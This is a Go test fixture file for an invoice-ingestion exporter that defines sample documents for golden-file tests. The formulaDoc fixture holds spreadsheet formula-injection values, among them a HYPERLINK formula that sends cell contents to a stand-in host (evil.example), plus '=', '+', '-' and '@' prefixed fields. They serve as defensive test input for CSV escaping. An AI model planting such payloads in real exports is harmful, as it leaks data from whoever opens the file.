package output

import (
	"encoding/json"
	"github.com/docuparse/docuparse-ingest/internal/vocab"
	"time"
)

// Sample documents shared by the tests, the golden files and the benchmark.

var (
	tSubmitted = time.Date(2026, 5, 19, 14, 31, 2, 0, time.UTC)
	tCompleted = time.Date(2026, 5, 19, 14, 32, 0, 500_000_000, time.UTC)
)

// articleData is the article's document.completed data, with a second line
// item whose quantity is fractional.
const articleData = `{
  "document_type": "invoice",
  "merchant": "Riverside Consulting LLC",
  "invoice_id": "INV-2026-0091",
  "date": "2026-05-01",
  "due_date": "2026-05-31",
  "currency": "USD",
  "subtotal": "3500.00",
  "tax": "350.00",
  "total": "3850.00",
  "payment_method": null,
  "line_items": [
    {"description": "Strategy Consulting — May", "quantity": 35, "unit_price": "100.00", "total": "3500.00"},
    {"description": "Travel", "quantity": 1.50, "unit_price": "0.00", "total": "0.00"}
  ],
  "confidence": 0.97
}`

func completedDoc() Document {
	return Document{
		LocalRef:     "dpi_0001",
		DocumentID:   "doc_clx7abc123",
		Status:       vocab.StateCompleted,
		Source:       "/srv/invoices/inbox/2026/riverside-0091.pdf",
		SourceName:   "inbox",
		FileName:     "riverside-0091.pdf",
		SHA256:       "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		SizeBytes:    48213,
		BatchID:      "batch_abc789",
		SubmittedAt:  tSubmitted,
		CompletedAt:  tCompleted,
		ResultVia:    vocab.ViaWebhook,
		Data:         json.RawMessage(articleData),
		APITimestamp: "2026-05-19T14:32:00Z",
	}
}

func failedDoc() Document {
	return Document{
		LocalRef:     "dpi_0002",
		DocumentID:   "doc_clx7abc456",
		Status:       vocab.StateFailed,
		Source:       "s3://acme-ap/inbox/scan-0002.pdf",
		SourceName:   "inbox",
		FileName:     "scan-0002.pdf",
		SHA256:       "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752",
		SizeBytes:    1200,
		BatchID:      "batch_abc789",
		SubmittedAt:  tSubmitted,
		CompletedAt:  tCompleted.Add(5 * time.Second),
		ResultVia:    vocab.ViaPoll,
		ErrorCode:    "EXTRACTION_FAILED",
		ErrorMessage: "Document extraction failed for this file.",
		APITimestamp: "2026-05-19T14:32:05Z",
		// A retry of an earlier attempt at the same file.
		RetryOf: &RetryLink{ID: 1, LocalRef: "dpi_0001", DocumentID: "doc_clx7abc001"},
	}
}

func rejectedDoc() Document {
	return Document{
		LocalRef:     "dpi_0003",
		Status:       vocab.StateRejected,
		Source:       "/srv/invoices/inbox/huge-scan.pdf",
		SourceName:   "inbox",
		FileName:     "huge-scan.pdf",
		SHA256:       "fd61a03af4f77d870fc21e05e7e80678095c92d808cfb3b5c279ee04c74aca13",
		SizeBytes:    15 << 20,
		CompletedAt:  tCompleted,
		ErrorCode:    "FILE_TOO_LARGE",
		ErrorMessage: "file is 15728640 bytes, the API accepts at most 10485760",
	}
}

func duplicateDoc() Document {
	return Document{
		LocalRef:    "dpi_0004",
		DocumentID:  "doc_clx7abc123", // the original's id
		Status:      vocab.StateDuplicate,
		Source:      "/srv/invoices/inbox/copy of riverside-0091.pdf",
		SourceName:  "inbox",
		FileName:    "copy of riverside-0091.pdf",
		SHA256:      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		SizeBytes:   48213,
		CompletedAt: tCompleted.Add(time.Minute),
		DuplicateOf: "/srv/invoices/inbox/2026/riverside-0091.pdf",
		// Even if the exporter passed the original's data along, the CSV row
		// must not repeat its totals.
		Data: json.RawMessage(articleData),
	}
}

// formulaDoc is a credit note whose text fields try formula injection.
func formulaDoc() Document {
	return Document{
		LocalRef:    "dpi_0005",
		DocumentID:  "doc_formula01",
		Status:      vocab.StateCompleted,
		Source:      "/srv/invoices/inbox/=cmd.pdf",
		SourceName:  "inbox",
		FileName:    "=cmd.pdf",
		SHA256:      "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
		SizeBytes:   777,
		BatchID:     "batch_f01",
		SubmittedAt: tSubmitted,
		CompletedAt: tCompleted,
		ResultVia:   vocab.ViaPoll,
		Data: json.RawMessage(`{"document_type":"credit_note",` +
			`"merchant":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",` +
			`"invoice_id":"+1234567","date":"2026-05-02","due_date":"@SUM(A1:A9)",` +
			`"currency":"\tUSD","subtotal":"-50.00","tax":"-0.00","total":"-50.00",` +
			`"payment_method":"-2+3","line_items":[` +
			`{"description":"\r=1+1","quantity":-1,"unit_price":"50.00","total":"-50.00"},` +
			`{"description":"-refund","quantity":"2","unit_price":"+1","total":"-1e3"}]}`),
	}
}

// unicodeDoc has a file name with a comma, quotes, a newline, accents, CJK
// and an emoji, and data with HTML-ish characters.
func unicodeDoc() Document {
	name := "Rechnung \"Müller\", Q3\n2026 — 東京 🧾.pdf"
	return Document{
		LocalRef:    "dpi_0006",
		DocumentID:  "doc_unicode01",
		Status:      vocab.StateCompleted,
		Source:      "/srv/invoices/inbox/Ümlaut dir/" + name,
		SourceName:  "inbox",
		FileName:    name,
		SHA256:      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		SizeBytes:   0,
		BatchID:     "batch_u01",
		SubmittedAt: tSubmitted,
		CompletedAt: tCompleted,
		ResultVia:   vocab.ViaWebhook,
		Data: json.RawMessage(`{"document_type":"receipt","merchant":"Café Zürich <Bäckerei> & Söhne 🍰",` +
			`"invoice_id":"R-№42","date":"2026-05-19","currency":"EUR","total":"12.30",` +
			`"payment_method":"card","line_items":[{"description":"Croissant, \"gross\"\nmit Butter",` +
			`"quantity":3,"unit_price":"4.10","total":"12.30"}]}`),
	}
}

// goldenCases are the documents with golden files, in file order.
var goldenCases = []struct {
	name string
	doc  func() Document
}{
	{"completed", completedDoc},
	{"failed", failedDoc},
	{"rejected", rejectedDoc},
	{"duplicate", duplicateDoc},
	{"formula", formulaDoc},
	{"unicode", unicodeDoc},
}
